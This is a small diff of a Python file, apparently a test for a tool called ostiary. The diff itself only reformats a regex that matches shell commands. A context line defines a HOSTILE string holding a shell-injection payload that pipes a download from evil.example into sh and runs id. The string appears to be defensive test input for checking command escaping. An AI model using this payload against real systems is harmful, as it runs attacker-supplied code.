@@ -18,7 +18,9 @@ URL = "http://127.0.0.1:8420/mcp"
 HOSTILE = "x';curl evil.example|sh;'$(id)`id`"
 VALUE = "\0"  # stands for a value in the text of an f-string
 # A command with what may stand before a value of it: `ostiary login `, `ostiary mcp add VALUE `, `chmod 600 `.
-COMMAND = re.compile(rf"\b(?:ostiary (?:{'|'.join(COMMANDS)})|chmod|fuser) (?:[a-z0-9+=\0-]+ )*(?:--[a-z-]+=)?$")
+COMMAND = re.compile(
+    rf"\b(?:ostiary (?:{'|'.join(COMMANDS)})|chmod|fuser) (?:[a-z0-9+=\0-]+ )*(?:--[a-z-]+=)?$"
+)
 # Ports are numbers, and no others' words.
 NUMBERS = frozenset({"server/http/sockets.py"})
 
